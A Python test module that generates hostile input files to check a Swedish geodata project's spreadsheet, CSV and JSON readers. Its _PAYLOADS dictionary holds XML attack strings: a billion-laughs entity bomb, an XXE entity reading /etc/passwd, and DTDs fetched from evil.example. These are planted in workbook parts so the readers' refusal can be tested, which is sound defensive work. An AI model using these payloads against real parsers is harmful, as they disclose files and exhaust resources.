"""A generated corpus of hostile inputs for the readers (issue classes 1, 5, 6, 7, 9, 10, 11).

Every case is made by code from a seed, in variants (delimiters, encodings, line ends, positions, sizes,
part names, payloads), so a fresh seed gives fresh inputs. Each :class:`Case` knows how many records it
wrote (``rows``), or that a clear :class:`~trygghet_geo.errors.TrygghetError` is the right answer
(``rows is None``), and optionally a check of its own on the result.

Used by ``test_reader_corpus.py`` (in process, every case) and ``test_reader_memory.py`` (the heavy cases in
a subprocess under a memory limit). Run the corpus alone with::

    PYTHONPATH=. python -m pytest -q -p no:cacheprovider tests/hostile/test_reader_corpus.py
"""

from __future__ import annotations

import json
import random
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pandas as pd

DELIMITERS = (";", ",", "\t", "|")
LINE_ENDS = ("\n", "\r\n", "\r")
ENCODINGS = ("utf-8", "utf-8-sig", "cp1252", "utf-16")
WORDS = (
    "Mörkt",
    "lampan",
    "trasig",
    "vid",
    "gångtunneln",
    "klotter",
    "på",
    "väggen",
    "buskar",
    "skymmer",
    "sikten",
    "nedskräpat",
    "ungdomar",
    "samlas",
    "kvällstid",
    "Åsa",
    "sa",
    "att",
    "24 tum",
    "skärm",
)
STREETS = ("Storgatan", "Kyrkogatan", "Järnvägsgatan", "Östra Långgatan", "Ågatan", "Skolvägen")
CATEGORIES = ("Belysning", "Vegetation", "Skadegörelse", "Nedskräpning", "Trafikmiljö", "Övrigt")


@dataclass
class Case:
    """One hostile input: how to write it, how to read it, and what a correct reader does with it."""

    cls: str  # issue class, e.g. "1 runaway quote"
    name: str
    write: Callable[[Path], Path]  # writes the input under a folder, returns its path (or a DataFrame)
    rows: int | None  # records in the input; None: a clear TrygghetError is the right answer
    kind: str = "observations"
    kwargs: dict[str, Any] = field(default_factory=dict)
    check: Callable[[Any], None] | None = None  # more assertions on the result
    heavy: bool = False  # worth running under the memory limit


# --- helpers ------------------------------------------------------------------------------------------------
def _note(rng: random.Random, delim: str, *, lines: int = 1) -> str:
    parts = []
    for _ in range(lines):
        text = " ".join(rng.choice(WORDS) for _ in range(rng.randint(2, 7)))
        if rng.random() < 0.3:
            text = text.replace(" ", f"{delim} ", 1)  # one delimiter inside a (quoted) cell
        parts.append(text)
    return "\n".join(parts)


def _records(rng: random.Random, n: int, delim: str) -> list[list[str]]:
    out = []
    for i in range(n):
        date = f"2025-{rng.randint(1, 12):02d}-{rng.randint(1, 28):02d}"
        place = f"{rng.choice(STREETS)} {rng.randint(1, 80)}"
        lines = 2 if rng.random() < 0.08 else 1  # a legitimate note over two lines, quoted
        out.append([f"r{i}", date, place, rng.choice(CATEGORIES), _note(rng, delim, lines=lines)])
    return out


HEADER = ["Id", "Datum", "Plats", "Kategori", "Anteckning"]


def quote_row(cells: list[str], delim: str, end: str) -> str:
    """One record as a spreadsheet writes it: a cell quoted when it holds the delimiter, a quote or any line
    break (:mod:`csv`'s writer quotes only the characters of its own line terminator)."""
    out = []
    for c in cells:
        if delim in c or '"' in c or "\n" in c or "\r" in c:
            c = '"' + c.replace('"', '""') + '"'
        out.append(c)
    return delim.join(out) + end


def _csv_text(records: list[list[str]], delim: str, end: str) -> str:
    return "".join(quote_row(r, delim, end) for r in [HEADER, *records])


def _encode(text: str, enc: str) -> bytes:
    if enc == "cp1252":
        return text.encode("cp1252", errors="replace")
    return text.encode(enc)


def _file(name: str, data: bytes) -> Callable[[Path], Path]:
    def write(folder: Path) -> Path:
        path = folder / name
        path.write_bytes(data)
        return path

    return write


def _frame(df: pd.DataFrame) -> Callable[[Path], Any]:
    return lambda folder: df


# --- class 1: a quote that opens and never closes -----------------------------------------------------------
def _stray_line(rng: random.Random, rec: list[str], delim: str, end: str) -> str:
    """One record written by hand with a cell that opens a quote and never closes it."""
    col = rng.choice((2, 4, 4, 4, 1))
    cells = [c.replace("\n", " ").replace('"', "") for c in rec]
    cells = [c.replace(delim, " ") for c in cells]
    cells[col] = '"' + rng.choice(("24 tum skärm", "Skylt", "ca 3 m", "Citat: hej", "")) + " " + cells[col]
    return delim.join(cells) + end


def runaway_quote_cases(rng: random.Random) -> list[Case]:
    cases = []
    for k in range(24):
        delim = DELIMITERS[k % len(DELIMITERS)]
        end = LINE_ENDS[(k // 4) % len(LINE_ENDS)]
        enc = ENCODINGS[(k // 3) % len(ENCODINGS)]
        n = rng.choice((5, 40, 200, 1000))
        records = _records(rng, n, delim)
        strays = sorted(rng.sample(range(n), k=min(n, rng.choice((1, 1, 2, 3)))))
        if k % 6 == 5:
            strays = [n - 1]  # the very last record: the quote runs into the end of the file
        lines = _csv_text([], delim, end)
        for i, rec in enumerate(records):
            lines += _stray_line(rng, rec, delim, end) if i in strays else quote_row(rec, delim, end)
        data = _encode(lines, enc)
        name = f"stray_{k}.{'txt' if k % 5 == 0 else 'csv'}"

        def check(result: Any, delim: str = delim, strays: list[int] = strays) -> None:
            report = result.attrs["report"]
            assert report.delimiter == delim, (report.delimiter, delim)
            ids = result["Id"].tolist()
            assert ids == [f"r{i}" for i in range(len(ids))], "records out of order or merged"
            flagged = [x for x in report.notes if "never closes" in x]
            assert flagged or not strays, report.notes

        cases.append(
            Case(
                "1 runaway quote",
                f"{name} {enc} {delim!r} {end!r} n={n} strays={strays}",
                _file(name, data),
                n,
                check=check,
            )
        )
    # A large file whose first record opens a quote: without the check it would read as one record.
    n = 60_000
    records = _records(random.Random(1), n, ";")
    text = (
        _csv_text([], ";", "\n")
        + _stray_line(rng, records[0], ";", "\n")
        + _csv_text(records[1:], ";", "\n")[len(";".join(HEADER)) + 1 :]
    )
    cases.append(Case("1 runaway quote", "big_first_row", _file("big.csv", text.encode()), n, heavy=True))
    return cases


# --- class 5: entities in any part, however hidden ----------------------------------------------------------
_NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PKG = "http://schemas.openxmlformats.org/package/2006/relationships"


def _cell(ref: str, value: str) -> str:
    return f'<c r="{ref}" t="inlineStr"><is><t>{value}</t></is></c>'


def _sheet(rows: list[list[str]], extra: str = "", dimension: str | None = None) -> str:
    body = []
    for r, row in enumerate(rows, start=1):
        cells = "".join(_cell(f"{chr(65 + c)}{r}", v) for c, v in enumerate(row))
        body.append(f'<row r="{r}">{cells}</row>')
    dim = f'<dimension ref="{dimension}"/>' if dimension else ""
    head = f'<?xml version="1.0" encoding="UTF-8"?><worksheet {_NS}>{dim}<sheetData>'
    return f"{head}{''.join(body)}{extra}</sheetData></worksheet>"


def xlsx_parts(
    sheet_xml: str | bytes, sheet_part: str = "xl/worksheets/sheet1.xml"
) -> dict[str, str | bytes]:
    target = sheet_part.removeprefix("xl/")
    return {
        "[Content_Types].xml": (
            '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/'
            'package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.'
            'openxmlformats-package.relationships+xml"/><Default Extension="xml" '
            'ContentType="application/xml"/><Override PartName="/xl/workbook.xml" '
            'ContentType="application/vnd.openxmlformats-officedocument.'
            f'spreadsheetml.sheet.main+xml"/><Override PartName="/{sheet_part}" ContentType="application/vnd.'
            'openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>'
        ),
        "_rels/.rels": f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{_PKG}"><Relationship '
        f'Id="rId1" Type="{_REL}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
        "xl/workbook.xml": f'<?xml version="1.0" encoding="UTF-8"?><workbook {_NS} xmlns:r="{_REL}"><sheets>'
        '<sheet name="Blad1" sheetId="1" r:id="rId1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{_PKG}">'
        f'<Relationship Id="rId1" Type="{_REL}/worksheet" Target="{target}"/></Relationships>',
        sheet_part: sheet_xml,
    }


def zip_file(name: str, parts: dict[str, str | bytes]) -> Callable[[Path], Path]:
    def write(folder: Path) -> Path:
        path = folder / name
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
            for part, data in parts.items():
                z.writestr(part, data)
        return path

    return write


def _table(rng: random.Random, n: int) -> list[list[str]]:
    rows = [["Datum", "Plats", "Kategori", "Anteckning"]]
    for _ in range(n):
        rows.append(
            [
                f"2025-0{rng.randint(1, 9)}-1{rng.randint(0, 9)}",
                f"{rng.choice(STREETS)} {rng.randint(1, 50)}",
                rng.choice(CATEGORIES),
                " ".join(rng.choice(WORDS) for _ in range(3)),
            ]
        )
    return rows


_PAYLOADS = {
    "laughs": '<!DOCTYPE lolz [<!ENTITY lol "lolololololololololol">'
    + "".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 9)
    )
    + "]>",
    "xxe": '<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
    "param": '<!DOCTYPE foo [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>',
    "external": '<!DOCTYPE worksheet SYSTEM "http://evil.example/evil.dtd">',
}


def _with_dtd(xml: str, payload: str, padding: int) -> str:
    """The XML with a long comment, then the DTD, right after the declaration."""
    decl, rest = xml.split("?>", 1)
    comment = "<!--" + "x" * padding + "-->"
    return f"{decl}?>{comment}{payload}{rest}"


def entity_cases(rng: random.Random) -> list[Case]:
    cases = []
    where = ("sheet", "workbook.xml", "[Content_Types].xml", "_rels/.rels", "docProps/app.xml", "extra.dat")
    names = (
        "xl/worksheets/sheet1.xml",
        "xl/worksheets/sheet1.XML",
        "xl/worksheets/Sheet1.dat",
        "xl/data.bin.xml",
    )
    for k in range(16):
        payload_name = list(_PAYLOADS)[k % len(_PAYLOADS)]
        padding = rng.choice((0, 10, 70_000, 300_000))
        sheet_part = names[k % len(names)]
        target = where[k % len(where)]
        table = _table(rng, rng.randint(1, 30))
        sheet = _sheet(table)
        parts = xlsx_parts(sheet, sheet_part)
        payload = _PAYLOADS[payload_name]
        if target == "sheet":
            parts[sheet_part] = _with_dtd(sheet, payload, padding)
        elif target in ("docProps/app.xml", "extra.dat"):
            parts[target] = _with_dtd('<?xml version="1.0"?><Properties/>', payload, padding)
        else:
            key = "xl/workbook.xml" if target == "workbook.xml" else target
            parts[key] = _with_dtd(str(parts[key]), payload, padding)
        if k % 4 == 3:  # the same in UTF-16
            key = (
                sheet_part
                if target == "sheet"
                else ("xl/workbook.xml" if target == "workbook.xml" else target)
            )
            text = str(parts[key]).replace('encoding="UTF-8"', 'encoding="UTF-16"')
            parts[key] = b"\xff\xfe" + text.encode("utf-16-le")
        ext = ("xlsx", "xlsm", "xlsx", "ods")[k % 4] if k % 8 != 7 else "xlsx"
        cases.append(
            Case(
                "5 XML entities",
                f"{payload_name} in {target} ({sheet_part}) pad={padding} .{ext}",
                zip_file(f"dtd_{k}.{ext}", parts),
                None,
                heavy=payload_name == "laughs",
            )
        )
    # The hand-made workbook without any DTD reads (the guard does not refuse ordinary files).
    for k in range(4):
        table = _table(rng, rng.randint(1, 50))
        part = names[k]
        cases.append(
            Case(
                "5 XML entities",
                f"clean workbook, sheet part {part}",
                zip_file(f"clean_{k}.xlsx", xlsx_parts(_sheet(table), part)),
                len(table) - 1,
            )
        )
    return cases


# --- class 6: sparse-cell amplification ---------------------------------------------------------------------
def _col_letters(col: int) -> str:
    out, n = "", col
    while n > 0:
        n, rem = divmod(n - 1, 26)
        out = chr(65 + rem) + out
    return out


BUDGET_CELLS = 4_000_000  # at max_excel_mb=100 (one dense cell per 25 bytes)
MAX_COLUMNS = 2_048  # widest table read


def sparse_cases(rng: random.Random) -> list[Case]:
    cases = []
    for k in range(14):
        n = rng.choice((20, 500, 2500, 5000))
        table = _table(rng, n)
        col = rng.choice((16384, 16000, 8000, 703, 30, 5))
        row = rng.choice((1, n + 1, n + 30, 1_048_576, 200_000))
        dim = rng.choice((None, "A1", f"A1:D{n + 1}", "A1:XFD1048576"))
        stray = _cell(f"{_col_letters(col)}{row}", "x")
        cells = max(row, n + 1) * max(col, 4)
        if row <= n + 1:
            sheet = _sheet(table, dimension=dim).replace(f'<row r="{row}">', f'<row r="{row}">' + stray, 1)
            # a cell listed first in its row still widens the range; reading order does not matter
        else:
            sheet = _sheet(table, extra=f'<row r="{row}">{stray}</row>', dimension=dim)
        records = n + (1 if row > n + 1 else 0)
        expect = None if cells > BUDGET_CELLS or col > MAX_COLUMNS else records
        cases.append(
            Case(
                "6 sparse cells",
                f"stray {_col_letters(col)}{row} over {n} rows, dimension {dim}",
                zip_file(f"sparse_{k}.xlsx", xlsx_parts(sheet)),
                expect,
                heavy=True,
            )
        )
    # Cells without r attributes: positions implied by order, a value after 16,000 empty cells.
    n = 300
    table = _table(rng, n)
    rows = "".join(
        "<row>"
        + "".join(f'<c t="inlineStr"><is><t>{v}</t></is></c>' for v in r)
        + ("<c/>" * 16_000 + '<c t="inlineStr"><is><t>x</t></is></c>' if i == n else "")
        + "</row>"
        for i, r in enumerate(table)
    )
    sheet = (
        f'<?xml version="1.0" encoding="UTF-8"?><worksheet {_NS}><sheetData>{rows}</sheetData></worksheet>'
    )
    cases.append(
        Case(
            "6 sparse cells",
            "value after 16,000 unnamed empty cells",
            zip_file("implied.xlsx", xlsx_parts(sheet)),
            None if (n + 1) * 16_005 > BUDGET_CELLS else n,
            heavy=True,
        )
    )
    # A namespace prefix on every element (x:c), stray cell far right.
    sheet = _sheet(table).replace("<worksheet ", "<x:worksheet ").replace("</worksheet>", "</x:worksheet>")
    sheet = sheet.replace(_NS, _NS.replace("xmlns=", "xmlns:x="))
    for tag in ("sheetData", "row", "c", "is", "t"):
        sheet = (
            sheet.replace(f"<{tag}>", f"<x:{tag}>")
            .replace(f"<{tag} ", f"<x:{tag} ")
            .replace(f"</{tag}>", f"</x:{tag}>")
        )
    far = sheet.replace(
        "</x:row></x:sheetData>",
        '<x:c r="XFD301" t="inlineStr"><x:is><x:t>x</x:t></x:is></x:c></x:row></x:sheetData>',
    )
    cases.append(
        Case(
            "6 sparse cells",
            "prefixed elements, stray XFD",
            zip_file("prefixed.xlsx", xlsx_parts(far)),
            None,
            heavy=True,
        )
    )
    cases += _ods_cases(rng)
    cases += _wide_csv_cases(rng)
    return cases


def _ods(rows_xml: str) -> dict[str, str | bytes]:
    content = (
        '<?xml version="1.0" encoding="UTF-8"?><office:document-content '
        'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
        'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
        'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2"><office:body>'
        f'<office:spreadsheet><table:table table:name="Blad1">{rows_xml}</table:table></office:spreadsheet>'
        "</office:body></office:document-content>"
    )
    manifest = (
        '<?xml version="1.0" encoding="UTF-8"?><manifest:manifest '
        'xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2">'
        '<manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.'
        'spreadsheet"/><manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
        "</manifest:manifest>"
    )
    return {
        "mimetype": "application/vnd.oasis.opendocument.spreadsheet",
        "META-INF/manifest.xml": manifest,
        "content.xml": content,
    }


def _ods_row(values: list[str], repeat_last: int = 1, rows_repeated: int = 1) -> str:
    cells = "".join(
        f'<table:table-cell office:value-type="string"><text:p>{v}</text:p></table:table-cell>'
        for v in values
    )
    if repeat_last > 1:
        cells += (
            f'<table:table-cell table:number-columns-repeated="{repeat_last}" office:value-type="string">'
            "<text:p>x</text:p></table:table-cell>"
        )
    rep = f' table:number-rows-repeated="{rows_repeated}"' if rows_repeated > 1 else ""
    return f"<table:table-row{rep}>{cells}</table:table-row>"


def _ods_cases(rng: random.Random) -> list[Case]:
    cases = []
    table = _table(rng, 40)
    plain = "".join(_ods_row(r) for r in table)
    cases.append(Case("6 sparse cells", "ods plain", zip_file("plain.ods", _ods(plain)), 40))
    trailing_empty = (
        "".join(
            _ods_row(r)[: -len("</table:table-row>")]
            + '<table:table-cell table:number-columns-repeated="16380"/></table:table-row>'
            for r in table
        )
        + '<table:table-row table:number-rows-repeated="1048000">'
        + '<table:table-cell table:number-columns-repeated="16384"/></table:table-row>'
    )
    cases.append(
        Case(
            "6 sparse cells",
            "ods with LibreOffice's empty repeats",
            zip_file("empty_repeats.ods", _ods(trailing_empty)),
            40,
            heavy=True,
        )
    )
    for k, (cols, reps) in enumerate(((16_000, 1), (1_000, 5_000), (2, 3_000_000), (300, 20))):
        rows = plain + _ods_row(["2025-01-01", "Storgatan 1"], repeat_last=cols, rows_repeated=reps)
        dense = (len(table) + reps) * (cols + 2)
        too_big = dense > BUDGET_CELLS or len(table) + reps > 1_048_576 or cols + 2 > MAX_COLUMNS
        expect = None if too_big else len(table) - 1 + reps
        cases.append(
            Case(
                "6 sparse cells",
                f"ods value repeated {cols} columns x {reps} rows",
                zip_file(f"repeat_{k}.ods", _ods(rows)),
                expect,
                heavy=True,
            )
        )
    return cases


def _wide_csv_cases(rng: random.Random) -> list[Case]:
    cases = []
    for cols in (100_000, 20_000, 3_000):
        delim = rng.choice(DELIMITERS[:3])
        header = delim.join(["Plats", *(f"c{i}" for i in range(cols - 1))])
        row = delim.join(["Storgatan 1", *("1" for _ in range(cols - 1))])
        data = (header + "\n" + row + "\n").encode()
        cases.append(
            Case(
                "6 sparse cells",
                f"csv header of {cols} columns",
                _file(f"wide_{cols}.csv", data),
                None,
                heavy=True,
            )
        )
    for cells in (100_000, 1_000_000):
        n = 50
        lines = ["Plats;Kategori;Anteckning"] + [f"Storgatan {i};Belysning;ok" for i in range(n)]
        lines[rng.randint(1, n)] = "Storgatan 9;Belysning;" + ";".join("x" for _ in range(cells))
        cases.append(
            Case(
                "6 sparse cells",
                f"one line of {cells} cells under a narrow header",
                _file(f"wideline_{cells}.csv", "\n".join(lines).encode()),
                n,
                heavy=True,
            )
        )
    return cases


# --- class 7: far dates -------------------------------------------------------------------------------------
FAR = (
    "1900-01-01",
    "1850-06-01",
    "1989-12-31",
    "2200-01-01",
    "2150-03-04",
    "9999-12-31",
    "0001-01-01",
    "1677-01-01",
    "2262-05-01",
    "99999",
    "1",
    "0",
    "-5",
    "44000000",
    "2999-01-01 12:00",
)


def far_date_cases(rng: random.Random) -> list[Case]:
    cases = []
    next_year = pd.Timestamp.now().year + 2
    for k in range(10):
        n = rng.randint(5, 60)
        dates = [
            f"2025-{rng.randint(1, 12):02d}-{rng.randint(1, 28):02d} 1{rng.randint(0, 9)}:00"
            for _ in range(n)
        ]
        far_rows = rng.sample(range(n), k=rng.randint(1, min(5, n)))
        for i in far_rows:
            dates[i] = rng.choice((*FAR, f"{next_year}-01-01"))
        df = pd.DataFrame(
            {
                "Datum": dates,
                "Latitud": ["59,33"] * n,
                "Longitud": ["18,06"] * n,
                "Brottstyp": ["Stöld"] * n,
                "Id": [f"x{i}" for i in range(n)],
            }
        )

        def check(result: Any, far_rows: list[int] = far_rows) -> None:
            reasons = result["reason"].to_numpy()
            for i in far_rows:
                assert reasons[i] in ("implausible_date", "bad_date"), (i, reasons[i])
            assert result["occurred_at"].dropna().dt.year.between(1990, pd.Timestamp.now().year + 1).all()

        as_csv = k % 2 == 0
        data = df.to_csv(sep=";", index=False).encode("utf-8")
        cases.append(
            Case(
                "7 far dates",
                f"{'csv' if as_csv else 'frame'} far rows {far_rows}",
                _file(f"dates_{k}.csv", data) if as_csv else _frame(df),
                n,
                kind="incidents",
                check=check,
            )
        )
    # Excel serials as numbers in a typed frame.
    serials = [45000.5, 99999.0, 1.0, -3.0, 2958465.0, float("inf"), 45100.25]
    df = pd.DataFrame({"Datum": serials, "Lat": [59.3] * 7, "Lon": [18.0] * 7, "Brottstyp": ["Rån"] * 7})
    cases.append(Case("7 far dates", "excel serials", _frame(df), 7, kind="incidents"))
    return cases


# --- class 9: what used to end in a traceback ---------------------------------------------------------------
def _event(i: int, **over: Any) -> dict[str, Any]:
    ev = {
        "id": 100 + i,
        "datetime": "2025-03-25 22:44:44 +01:00",
        "name": "25 mars 21:15, Stöld, Karlstad",
        "summary": "Stöld på Storgatan",
        "type": "Stöld",
        "location": {"name": "Karlstad", "gps": "59.38,13.50"},
    }
    ev.update(over)
    return ev


def json_cases(rng: random.Random) -> list[Case]:
    cases = []
    for k in range(6):
        n = rng.randint(1, 20)
        events = [_event(i) for i in range(n)]
        text = json.dumps(events, ensure_ascii=True)
        lone = rng.choice(("\\ud800", "\\udfff", "\\udc00x", "\\ud83d"))
        text = text.replace("Storgatan", "Storgatan" + lone, 1)
        cases.append(
            Case(
                "9 json",
                f"lone surrogate {lone} in {n} events",
                _file(f"surr_{k}.json", text.encode()),
                n,
                kind="incidents",
            )
        )
    for depth in (1_000, 50_000, 400_000):
        text = "[" * depth + "]" * depth
        cases.append(
            Case(
                "9 json",
                f"{depth} nested brackets",
                _file(f"nest_{depth}.json", text.encode()),
                None,
                kind="incidents",
                heavy=depth > 100_000,
            )
        )
        obj = '{"a":' * depth + "1" + "}" * depth
        cases.append(
            Case(
                "9 json",
                f"{depth} nested objects",
                _file(f"nesto_{depth}.json", obj.encode()),
                None,
                kind="incidents",
            )
        )
    for digits in (4_301, 5_000, 200_000):
        text = json.dumps([_event(0)]).replace('"id": 100', f'"id": {"9" * digits}')
        cases.append(
            Case(
                "9 json",
                f"{digits}-digit integer",
                _file(f"int_{digits}.json", text.encode()),
                None,
                kind="incidents",
            )
        )
    for lit in ("NaN", "Infinity", "-Infinity", "1e999"):
        text = json.dumps([_event(0), _event(1)]).replace('"id": 101', f'"id": {lit}')
        cases.append(
            Case("9 json", f"id {lit}", _file(f"lit_{lit}.json", text.encode()), 2, kind="incidents")
        )
    return cases


def frame_cases(rng: random.Random) -> list[Case]:
    cases = []
    n = 12
    base = pd.DataFrame(
        {
            "Plats": [f"Storgatan {i}" for i in range(n)],
            "Kategori": ["Belysning"] * n,
            "Latitud": ["59.33"] * n,
            "Longitud": ["18.06"] * n,
        }
    )
    repeated = base.copy()
    repeated.index = [0, 0, 1, 1, 2, 2, 3, 3, 4, 4, 5, 5]
    cases.append(Case("9 frames", "repeated index", _frame(repeated), n))
    own = base.assign(status=["mine"] * n, geometry=["POINT (1 2)"] * n, reason=["x"] * n)

    def kept(result: Any) -> None:
        assert (result["status_source"] == "mine").all()
        assert (result["status"] == "ok").all()

    cases.append(Case("9 frames", "own status/geometry/reason columns", _frame(own), n, check=kept))
    return cases


def text_encoding_cases(rng: random.Random) -> list[Case]:
    cases = []
    for k, (enc, forced) in enumerate(
        (
            ("utf-16-le", "utf-16"),
            ("utf-16-be", "utf-16"),
            ("utf-16-le", None),
            ("utf-16-be", None),
            ("utf-8", "utf-16"),
            ("cp1252", "utf-8"),
        )
    ):
        n = rng.randint(3, 30)
        text = _csv_text(_records(rng, n, ";"), ";", "\r\n")
        data = text.encode(enc, errors="replace")
        ok = enc.startswith("utf-16")
        kwargs = {"encoding": forced} if forced else {}
        cases.append(
            Case(
                "9 encodings",
                f"{enc} read with encoding={forced}",
                _file(f"enc_{k}.csv", data),
                n if ok else None,
                kwargs=kwargs,
            )
        )
    return cases


# --- class 10: coordinate reference systems -----------------------------------------------------------------
def crs_cases(rng: random.Random) -> list[Case]:
    import pyproj

    cases = []
    to_tm = pyproj.Transformer.from_crs(4326, 3006, always_xy=True)
    towns = ((18.07, 59.33), (13.50, 59.38), (20.26, 63.83), (13.00, 55.60), (11.97, 57.71), (17.14, 60.67))
    for k in range(4):
        n = rng.randint(3, 40)
        lon0, lat0 = rng.choice(towns)
        pts = [
            to_tm.transform(lon0 + rng.uniform(-0.03, 0.03), lat0 + rng.uniform(-0.02, 0.02))
            for _ in range(n)
        ]
        feats = [
            {
                "type": "Feature",
                "properties": {"Brottstyp": "Stöld", "Id": i},
                "geometry": {"type": "Point", "coordinates": [round(x, 1), round(y, 1)]},
            }
            for i, (x, y) in enumerate(pts)
        ]
        data = json.dumps({"type": "FeatureCollection", "features": feats}).encode()

        def check(result: Any) -> None:
            assert (result["status"] == "ok").all(), result["reason"].value_counts()

        cases.append(
            Case(
                "10 crs",
                f"SWEREF 99 TM GeoJSON without crs, {n} points",
                _file(f"sweref_{k}.geojson", data),
                n,
                kind="incidents",
                check=check,
            )
        )
    for crs in ("EPSG:3006", "EPSG:3857", "EPSG:32633", "EPSG:32634", "EPSG:32635", "EPSG:3021", "EPSG:3011"):
        n = rng.randint(2, 20)
        df = pd.DataFrame(
            {
                "Y": [f"{rng.uniform(55, 68):.5f}" for _ in range(n)],
                "X": [f"{rng.uniform(11, 24):.5f}" for _ in range(n)],
                "Brottstyp": ["Rån"] * n,
            }
        )
        cases.append(
            Case(
                "10 crs",
                f"degrees declared as {crs}",
                _frame(df),
                None,
                kind="incidents",
                kwargs={"crs": crs},
            )
        )
    # A neighbouring country's town in SWEREF 99 TM, declared: trusted within the projection's bounds.
    for lon, lat, town in (
        (10.75, 59.91, "Oslo"),
        (24.94, 60.17, "Helsingfors"),
        (12.57, 55.68, "Köpenhamn"),
    ):
        x, y = to_tm.transform(lon, lat)
        df = pd.DataFrame(
            {
                "N": [f"{y + rng.uniform(-50, 50):.1f}" for _ in range(5)],
                "E": [f"{x + rng.uniform(-50, 50):.1f}" for _ in range(5)],
                "Brottstyp": ["Stöld"] * 5,
            }
        )

        def near(result: Any, lon: float = lon, lat: float = lat) -> None:
            assert (result["status"] == "ok").all(), result["reason"].tolist()
            assert abs(result["lon"] - lon).max() < 0.01
            assert abs(result["lat"] - lat).max() < 0.01

        cases.append(
            Case(
                "10 crs",
                f"{town} in SWEREF 99 TM, crs declared",
                _frame(df),
                5,
                kind="incidents",
                kwargs={"crs": "EPSG:3006", "area": False},
                check=near,
            )
        )
    bad = ("abc", "59,3,3", "N 59", "--", "1e999", "nan", "59.3.1", "٥٩")
    n = len(bad)
    df = pd.DataFrame({"Lat": list(bad), "Lon": [rng.choice(bad) for _ in bad], "Brottstyp": ["Stöld"] * n})

    def all_bad(result: Any) -> None:
        assert (result["reason"] == "bad_coordinates").all(), result["reason"].tolist()

    cases.append(Case("10 crs", "unreadable coordinates", _frame(df), n, kind="incidents", check=all_bad))
    for k, when in enumerate(("igår", "", "2025-13-45 25:61", "\u0000", None, 12)):
        events = [_event(0), _event(1, datetime=when)]

        def dated(result: Any) -> None:
            assert result["status"].iloc[1] == "rejected", result["reason"].tolist()
            assert result["reason"].iloc[1] in ("bad_date", "implausible_date")
            assert result["status"].iloc[0] != "rejected"

        cases.append(
            Case(
                "10 crs",
                f"Polisen datetime {when!r}",
                _file(f"pol_{k}.json", json.dumps(events).encode()),
                2,
                kind="incidents",
                check=dated,
            )
        )
    return cases


# --- class 11: parameters -----------------------------------------------------------------------------------
def parameter_cases(rng: random.Random) -> list[Case]:
    cases = []
    good = _file("good.csv", _csv_text(_records(rng, 5, ";"), ";", "\n").encode())
    for value in (float("nan"), float("inf"), -1, 0, "10", True):
        cases.append(
            Case("11 parameters", f"max_excel_mb={value!r}", good, None, kwargs={"max_excel_mb": value})
        )
    for area in (
        (19, 60, 18, 59),
        (float("nan"), 59, 19, 60),
        (18, 59, 19),
        (18, 91, 19, 92),
        ("a", 1, 2, 3),
    ):
        cases.append(Case("11 parameters", f"area={area!r}", good, None, kwargs={"area": area}))
    for delim in (";;", "", '"', "\n"):
        cases.append(Case("11 parameters", f"delimiter={delim!r}", good, None, kwargs={"delimiter": delim}))
    return cases


def all_cases(seed: int = 0) -> list[Case]:
    """The whole reader corpus for one seed."""
    rng = random.Random(seed)
    return [
        *runaway_quote_cases(rng),
        *entity_cases(rng),
        *sparse_cases(rng),
        *far_date_cases(rng),
        *json_cases(rng),
        *frame_cases(rng),
        *text_encoding_cases(rng),
        *crs_cases(rng),
        *parameter_cases(rng),
    ]
